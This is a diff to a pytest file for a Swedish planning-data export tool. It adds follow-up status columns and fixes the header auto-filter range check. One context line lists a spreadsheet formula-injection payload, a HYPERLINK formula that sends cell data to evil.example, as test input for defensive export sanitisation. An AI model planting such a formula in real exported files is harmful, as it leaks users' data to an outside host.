@@ -10,6 +10,7 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from openpyxl import load_workbook
+from openpyxl.utils import get_column_letter
 
 from soderort import exports
 from soderort.loading import PlanData
@@ -33,6 +34,9 @@ SV_COLUMNS = [
     "Mål",
     "Avklippt",
     "Källa",
+    "Status i dag",
+    "Uppföljningens datum",
+    "Uppföljningens källa",
 ]
 EN_COLUMNS = [
     "id",
@@ -50,6 +54,9 @@ EN_COLUMNS = [
     "Target",
     "Cut off in source",
     "Source",
+    "Status today",
+    "Follow-up date",
+    "Follow-up source",
 ]
 HOSTILE_STARTS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")',
@@ -298,7 +305,7 @@ def test_xlsx_header_bold_frozen_filtered(plan_data: PlanData) -> None:
     assert all(cell.font.bold for cell in sheet[1])
     assert not any(cell.font.bold for cell in sheet[2])
     assert sheet.freeze_panes in ("A2", "B2")
-    assert sheet.auto_filter.ref == f"A1:O{len(frame) + 1}"
+    assert sheet.auto_filter.ref == f"A1:{get_column_letter(len(SV_COLUMNS))}{len(frame) + 1}"
 
 
 def test_xlsx_holds_every_row_with_swedish_letters(plan_data: PlanData) -> None:
